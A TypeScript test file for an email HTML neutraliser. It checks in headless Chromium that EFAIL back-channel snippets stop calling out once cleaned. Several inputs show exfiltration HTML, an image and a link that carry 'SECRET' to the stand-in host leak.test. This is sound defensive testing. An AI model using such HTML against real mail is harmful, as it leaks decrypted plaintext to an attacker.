/**
 * The back channels of EFAIL, in a real browser that would follow every one of them: as they are they call
 * out, neutralised they do not. (In Thunderbird itself: test/e2e/thunderbird/display-opened.test.ts.)
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { setTimeout as delay } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import puppeteer, { type Browser, type Page } from "puppeteer-core";
import { backChannels } from "../../helpers/back-channels.js";

const root = fileURLToPath(new URL("../../../", import.meta.url));
const channels = backChannels((name) => `http://leak.test/${name}`);
let browser: Browser;
let code: string;

before(async () => {
  const bundle = await build({
    entryPoints: [`${root}src/background/mail/neutral-html.ts`],
    bundle: true,
    write: false,
    format: "iife",
    globalName: "neutral",
  });
  code = bundle.outputFiles[0]!.text;
  browser = await puppeteer.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox"] });
});
after(() => browser.close());

async function neutralised(html: string): Promise<string> {
  const page = await browser.newPage();
  const cleaned = await page.evaluate(`${code}; neutral.neutralHtml(${JSON.stringify(html)})`);
  await page.close();
  return cleaned as string;
}

/** What the page asks for beyond itself. */
async function requestsOf(html: string, patience = 100): Promise<readonly string[]> {
  const page: Page = await browser.newPage();
  const asked: string[] = [];
  await page.setRequestInterception(true);
  page.on("request", (request) => {
    const own = request.url() === "http://mail.test/";
    if (!own && !request.url().startsWith("data:")) asked.push(request.url());
    void request.respond(own ? { contentType: "text/html", body: html } : { status: 404, body: "" });
  });
  await page.goto("http://mail.test/", { waitUntil: "load" });
  // Refreshes, fonts and media begin after that.
  await delay(patience);
  await page.close();
  return asked.filter((url) => !url.endsWith("/favicon.ico"));
}

/** Followed by other readers than this browser, or by old ones: nothing to see here even untouched. */
const quietHere = [
  "img-unclosed",
  "track",
  "audio",
  "video",
  "source",
  "meta-link",
  "noscript",
  "noscript-breakout",
  "textarea-breakout",
  "svg-use",
  "style-escape",
  "math-style",
];

test("as it came, nearly every back channel calls out: the net below catches something", async () => {
  const all = await Promise.all(
    [...channels].map(async ([name, html]) => [name, await requestsOf(html, 3000)] as const),
  );
  const silent = all.filter(([, asked]) => asked.length === 0).map(([name]) => name);
  assert.deepEqual(
    silent.filter((name) => !quietHere.includes(name)),
    [],
  );
});

for (const [name, html] of channels) {
  test(`neutral HTML calls nobody: ${name} (EFAIL; RFC 8551 §6)`, async () => {
    const cleaned = await neutralised(html);
    // A tooltip may still spell the address; nothing may follow it.
    assert.equal(cleaned.replace(/ title="[^"]*"/g, "").includes("leak.test"), false, cleaned);
    assert.deepEqual(await requestsOf(cleaned), []);
  });
}

test("all of them together, around a secret, call nobody", async () => {
  const cleaned = await neutralised([...channels.values()].join("<p>SECRET</p>"));
  assert.deepEqual(await requestsOf(cleaned), []);
});

test("a secret inside an image's address does not leave, and neither does one inside a link's", async () => {
  const image = await neutralised('<img src="http://leak.test/SECRET text">');
  const link = await neutralised('<a href="http://leak.test/?SECRET\ntext">click</a>');
  assert.equal(image.includes("leak.test"), false);
  assert.equal(link.includes("leak.test"), false);
  assert.match(link, /<a>click<\/a>/);
});

test("leaves what a letter needs: words, tables, colours, pictures of its own, ordinary links", async () => {
  const letter = `<html><head><style>/* fonts */ p { color: #333; margin: 1em } @media print { p { color: #000 } }</style></head>
    <body bgcolor="#ffffff"><p style="color: red; font-size: 12pt">Grüße</p><table border="1"><tr><td>1</td></tr></table>
    <img src="cid:logo@example.test" width="9"><img src="data:image/png;base64,AAEC">
    <a href="https://example.test/a?b=c">link</a><a href="mailto:a@example.test">mail</a></body></html>`;
  const cleaned = await neutralised(letter);
  for (const kept of [
    "Grüße",
    'style="color: red; font-size: 12pt"',
    '<table border="1">',
    'src="cid:logo@example.test"',
    'src="data:image/png;base64,AAEC"',
    'href="https://example.test/a?b=c"',
    'href="mailto:a@example.test"',
    "color: #333",
    'bgcolor="#ffffff"',
  ])
    assert.ok(cleaned.includes(kept), `${kept} in ${cleaned}`);
});

test("takes out a style sheet that could name an address, and keeps the letter", async () => {
  const cleaned = await neutralised("<style>p{color:red;background:url(x)}</style><p>hi</p>");
  assert.equal(cleaned.includes("<style"), false);
  assert.ok(cleaned.includes("<p>hi</p>"));
});

test("nesting ten thousand deep neither overflows nor hangs", async () => {
  const cleaned = await neutralised(`${"<x>".repeat(10_000)}<img src=http://leak.test/deep>end`);
  assert.equal(cleaned.includes("leak.test"), false);
  assert.ok(cleaned.includes("end"));
});
